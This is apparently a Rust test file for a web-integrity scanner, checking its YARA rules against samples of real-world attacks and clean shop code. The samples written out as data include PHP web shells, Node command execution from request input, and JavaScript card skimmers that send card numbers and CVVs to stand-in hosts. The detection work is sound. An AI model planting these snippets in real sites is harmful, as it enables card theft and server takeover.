//! The shipped YARA rules: every rule matches its sample of a real-world technique, ordinary shop
//! code matches none, users' rule files are added (and a bad one is named), and the monitor puts
//! the matching rule and strings on the event.

#![allow(clippy::unwrap_used)] // in tests a panic is the failure report

use std::sync::Arc;

use ensuresec_integrity::content::{RuleSet, scan_tree};
use ensuresec_integrity::ignore::Ignore;
use ensuresec_integrity::monitor::Monitor;
use ensuresec_integrity::{StateDir, ops};
use ensuresec_model::EventData;

fn rules(set: &RuleSet, data: &[u8]) -> Vec<String> {
    let mut names: Vec<String> = set
        .scanner()
        .scan(data)
        .unwrap()
        .into_iter()
        .map(|m| m.rule)
        .collect();
    names.sort();
    names
}

const SKIMMER: &str = r#"document.addEventListener("DOMContentLoaded",function(){var f=document.querySelector("form");f.addEventListener("submit",function(){var d={n:document.getElementById("cc_number").value,c:document.getElementById("cvv").value};new Image().src="https://cdn-metrics.example.net/p.gif?d="+btoa(JSON.stringify(d));});});"#;

#[test]
fn every_shipped_rule_matches_its_sample() {
    let set = RuleSet::load(true, &[]).unwrap();
    let cases: &[(&str, &[u8])] = &[
        ("php_eval_of_request_input", b"<?php assert(base64_decode($_REQUEST[\"x\"]));"),
        ("php_command_execution_from_request", b"<?php echo system($_GET['c']);"),
        ("php_request_as_function", b"<?php $_GET['f']($_GET['a']);"),
        (
            "php_obfuscated_loader",
            b"<?php eval(gzinflate(base64_decode('s0ksSc5ILUvOyS/XUqhWMjQwNTY1MTQ0MTZRqgUA')));",
        ),
        ("php_hidden_in_image", b"GIF89a\x01\x00\x01\x00<?php echo shell_exec($c); ?>"),
        ("known_web_shell_markers", b"<?php $default_action = 'FilesMan';"),
        (
            "node_command_execution_from_request",
            b"const cp = require('child_process');\napp.get('/x', (req, res) => cp.exec(req.query.c));",
        ),
        ("js_card_field_listener_with_exfiltration", SKIMMER.as_bytes()),
        (
            "js_form_data_harvest",
            br#"var d={};document.querySelectorAll("input").forEach(function(i){d[i.name]=i.value});navigator.sendBeacon("https://x.example/c",btoa(JSON.stringify(d)));"#,
        ),
        ("js_obfuscated_loader", br#"eval(atob("ZG9jdW1lbnQud3JpdGUoMSk="));"#),
        (
            "js_dynamic_script_from_encoded_url",
            br#"var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcy5qcw==");document.head.appendChild(s);"#,
        ),
        (
            "php_injected_skimmer_script",
            br#"<?php echo '<script>var n=document.getElementById("cardnumber");</script>'; ?>"#,
        ),
    ];
    for (rule, sample) in cases {
        assert!(
            rules(&set, sample).iter().any(|r| r == rule),
            "{rule} did not match its sample; matched {:?}",
            rules(&set, sample)
        );
    }
    // Every shipped rule has a sample above.
    let shipped: usize = ensuresec_integrity::content::BUILTIN_RULES
        .iter()
        .map(|(_, text)| text.matches("\nrule ").count())
        .sum();
    assert_eq!(shipped, cases.len());
}

#[test]
fn ordinary_shop_code_matches_nothing() {
    let set = RuleSet::load(true, &[]).unwrap();
    let clean: &[&[u8]] = &[
        br#"document.getElementById("cc_number").addEventListener("input",function(e){e.target.value=e.target.value.replace(/\D/g,"")});
fetch("/checkout/pay",{method:"POST",body:JSON.stringify(order)});"#,
        b"<?php\n$id = (int) $_GET['id'];\n$product = $repo->find($id);\necho htmlspecialchars($product->name);\nexec('convert a.png b.jpg');\n",
        b"<?php\nfunction render(array $vars) { extract($vars); include __DIR__ . '/tpl.php'; }\n",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        br##"$(function(){ $("#newsletter").submit(function(e){ e.preventDefault(); $.post("/subscribe", $(this).serialize()); }); });"##,
    ];
    for sample in clean {
        assert!(
            rules(&set, sample).is_empty(),
            "false positive {:?} on {}",
            rules(&set, sample),
            String::from_utf8_lossy(sample)
        );
    }
}

#[test]
fn user_rules_are_added_and_a_bad_rule_file_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("shop.yar");
    std::fs::write(
        &file,
        "rule shop_banned_domain { meta: description = \"our old CDN\" strings: $d = \"old-cdn.example\" condition: $d }",
    )
    .unwrap();
    let set = RuleSet::load(false, &[dir.path().to_path_buf()]).unwrap();
    let m = set
        .scanner()
        .scan(b"<script src=//old-cdn.example/a.js>")
        .unwrap();
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].rule, "shop_banned_domain");
    assert_eq!(m[0].description.as_deref(), Some("our old CDN"));
    assert_eq!(m[0].strings, vec!["$d@14: old-cdn.example".to_string()]);
    std::fs::write(
        dir.path().join("bad.yar"),
        "rule broken { condition: $nope }",
    )
    .unwrap();
    let e = RuleSet::load(false, &[dir.path().to_path_buf()]).unwrap_err();
    assert!(e.to_string().contains("bad.yar"), "{e}");
}

#[test]
fn a_tree_scan_reports_the_infected_files_with_quotes() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("js")).unwrap();
    std::fs::write(root.join("js/checkout.js"), SKIMMER).unwrap();
    std::fs::write(root.join("js/app.js"), "console.log('ok');").unwrap();
    std::fs::write(root.join("x.php"), "<?php @eval($_POST['pass']);").unwrap();
    let set = RuleSet::load(true, &[]).unwrap();
    let found = scan_tree(&set, root, &Ignore::new(&[]).unwrap(), None).unwrap();
    assert_eq!(found.files, 3);
    let paths: Vec<&str> = found.matches.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(paths, vec!["js/checkout.js", "x.php"]);
    let shell = &found.matches[1].1;
    assert!(
        shell
            .iter()
            .any(|m| m.strings.iter().any(|s| s.contains("eval($_POST['pass'])"))),
        "{shell:?}"
    );
}

#[test]
fn the_monitor_puts_matching_rules_and_strings_on_the_event() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("www");
    std::fs::create_dir_all(root.join("js")).unwrap();
    std::fs::write(root.join("js/checkout.js"), "function pay(){}\n").unwrap();
    let state = StateDir::open(&dir.path().join("state"), None).unwrap();
    let now = chrono::DateTime::parse_from_rfc3339("2026-12-04T10:00:00Z")
        .unwrap()
        .to_utc();
    ops::create(&state, &root, vec![], now, None).unwrap();
    let mut monitor = Monitor::open(state, None)
        .unwrap()
        .with_rules(Arc::new(RuleSet::load(true, &[]).unwrap()));
    std::fs::write(
        root.join("js/checkout.js"),
        format!("function pay(){{}}\n{SKIMMER}\n"),
    )
    .unwrap();
    let events = monitor
        .check_paths([root.join("js/checkout.js")], now)
        .unwrap();
    assert_eq!(events.len(), 1);
    let EventData::FileChange(f) = &events[0].data else {
        panic!("not a file change")
    };
    assert_eq!(f.matches.len(), 1);
    assert_eq!(
        f.matches[0].rule,
        "js_card_field_listener_with_exfiltration"
    );
    assert!(
        f.matches[0]
            .strings
            .iter()
            .any(|s| s.contains("cdn-metrics.example.net")),
        "{:?}",
        f.matches[0].strings
    );
}
